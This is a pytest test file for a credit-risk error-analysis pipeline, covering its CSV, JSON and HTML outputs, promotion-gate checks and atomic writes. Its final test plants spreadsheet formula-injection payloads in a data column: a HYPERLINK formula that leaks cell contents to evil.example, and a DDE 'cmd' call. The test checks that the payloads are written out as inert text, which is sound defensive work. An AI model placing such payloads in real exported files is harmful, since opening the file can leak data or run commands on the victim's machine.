"""The analysis' files: columns, order, summary for the gate, a self-contained page."""

from __future__ import annotations

import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from aire.analysis.error_analysis import OUTPUT_COLUMNS, ErrorAnalysis, run_error_analysis
from aire.analysis.report import REVIEW_COLUMNS, write_outputs
from aire.config import PipelineConfig, parse_config
from aire.data.datasets import german_credit, make_batch
from aire.promotion.evidence import evidence_from_files
from aire.promotion.gate import decide

FEATURES = {"numeric": ["age", "credit_amount", "duration", "job"],
            "categorical": ["housing", "saving_accounts", "checking_account", "purpose"]}


@pytest.fixture(scope="module")
def config() -> PipelineConfig:
    return parse_config({"name": "credit-risk", "dataset": {
        "label": "risk", "id": "row_id", "features": FEATURES, "sensitive": ["sex"]}})


@pytest.fixture(scope="module")
def result(config: PipelineConfig) -> ErrorAnalysis:
    batch, _ = make_batch(german_credit(), n_rows=600, seed=4, label_noise=0.1)
    return run_error_analysis(batch, config, champion=None, folds=3, seed=0, epochs=10,
                              device="cpu")


def test_every_file_is_written_with_its_columns(result: ErrorAnalysis, tmp_path: Path) -> None:
    paths = write_outputs(result, tmp_path / "out", top_k=20)
    assert {p.name for p in paths.values()} == {
        "error_analysis.csv", "review_queue.csv", "most_confident.csv", "summary.json",
        "report.html"}
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        p.name for p in paths.values())  # no staging files left behind

    table = pd.read_csv(paths["error_analysis"])
    assert list(table.columns) == [*OUTPUT_COLUMNS, "sex"]
    assert table["loss"].is_monotonic_decreasing and len(table) == result.n_rows
    assert table["row_id"].is_unique

    review = pd.read_csv(paths["review_queue"])
    assert len(review) == result.n_suspected > 0
    assert review["row_id"].tolist() == table.loc[table["suspected"], "row_id"].tolist()

    confident = pd.read_csv(paths["most_confident"])
    assert list(confident.columns) == REVIEW_COLUMNS
    assert len(confident) == 2 * 10  # review_k per class
    for _, rows in confident.groupby("predicted"):
        assert rows["confidence"].is_monotonic_decreasing

    summary = json.loads(paths["summary"].read_text())
    assert summary["estimated_noise_rate"] == result.estimated_noise_rate
    assert summary["n_suspected"] == result.n_suspected and summary["skipped"] is False
    assert summary["source"] == "cross_fit:3:boosted_trees"  # analysis.cross_fit_model default
    assert summary["leakage"]["flagged"] == [] and len(summary["leakage"]["features"]) == 8
    assert {g["value"] for g in summary["per_group"]} == {"female", "male"}

    page = paths["report"].read_text()
    assert "<svg" in page and page.count("<rect") > 5
    assert not re.search(r"<(script|link|img)\b|src=|href=", page)  # self-contained
    assert "Most confident predictions" in page and "Leakage check" in page
    assert page.count("<tr>") >= 20


def test_the_gate_reads_the_noise_estimate_from_the_summary(
        result: ErrorAnalysis, tmp_path: Path, config: PipelineConfig) -> None:
    paths = write_outputs(result, tmp_path)
    evidence = evidence_from_files(None, paths["summary"], None, first_run=True)
    assert evidence.noise_rate == pytest.approx(result.estimated_noise_rate)
    strict = config.gates.model_copy(update={"max_noise_rate": 0.01})
    check = next(c for c in decide(strict, evidence).checks if c.value == evidence.noise_rate)
    assert not check.passed


def test_a_skip_is_written_and_the_gate_sees_no_estimate(tmp_path: Path,
                                                         config: PipelineConfig) -> None:
    paths = write_outputs(ErrorAnalysis.skip(3, "single-class batch: every 'risk' value is 1"),
                          tmp_path)
    summary = json.loads(paths["summary"].read_text())
    assert summary["skipped"] is True and summary["estimated_noise_rate"] is None
    assert "single-class" in summary["reason"]
    assert list(pd.read_csv(paths["error_analysis"]).columns) == OUTPUT_COLUMNS
    assert "Skipped" in paths["report"].read_text()
    evidence = evidence_from_files(None, paths["summary"], None, first_run=True)
    assert evidence.noise_rate is None and "skipped" in evidence.missing["noise_rate"]
    assert not decide(config.gates, evidence).promote


def test_a_failed_write_keeps_the_last_complete_file(result: ErrorAnalysis, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    paths = write_outputs(result, tmp_path)
    before = paths["error_analysis"].read_bytes()

    def broken(self: pd.DataFrame, *args: object, **kwargs: object) -> None:
        Path(str(args[0])).write_text("row_id,la")  # a partial file, then the crash
        raise OSError("disk full")

    monkeypatch.setattr(pd.DataFrame, "to_csv", broken)
    with pytest.raises(OSError, match="disk full"):
        write_outputs(result, tmp_path)
    assert paths["error_analysis"].read_bytes() == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def test_a_quarter_million_rows_are_analysed_and_written_in_loss_order(
        tmp_path: Path, config: PipelineConfig) -> None:
    from aire.analysis.error_analysis import analyze

    rng = np.random.default_rng(0)
    n = 250_000
    p1 = rng.random(n)
    batch = pd.DataFrame({"row_id": np.arange(n), "risk": (rng.random(n) < p1).astype(int),
                          "sex": rng.choice(["female", "male"], n)})
    big = analyze(batch, np.column_stack([1 - p1, p1]), [0, 1], config)
    table = pd.read_csv(write_outputs(big, tmp_path)["error_analysis"])
    assert len(table) == n and table["loss"].is_monotonic_decreasing


def test_formulas_from_the_batch_reach_the_csv_files_as_text(config: PipelineConfig, tmp_path: Path) -> None:
    """The attack (issue 13, case 5): category values that a spreadsheet would run."""
    batch, _ = make_batch(german_credit(), n_rows=300, seed=5, label_noise=0.2)
    payloads = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                "\t=1+1"]
    batch["sex"] = batch["sex"].astype(object)
    for index, payload in enumerate(payloads):
        batch.loc[batch.index[index::len(payloads)], "sex"] = payload
    result = run_error_analysis(batch, config, champion=None, folds=3, seed=0, epochs=2, device="cpu")
    paths = write_outputs(result, tmp_path / "out", top_k=20)
    for name in ("error_analysis", "review_queue"):
        cells = set(pd.read_csv(paths[name], keep_default_na=False)["sex"])
        assert cells and all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells), (name, cells)
    written = set(pd.read_csv(paths["error_analysis"], keep_default_na=False)["sex"])
    assert "'" + payloads[0] in written  # the value is kept, as text
    assert pd.read_csv(paths["error_analysis"])["loss"].dtype.kind == "f"  # numbers stay numbers
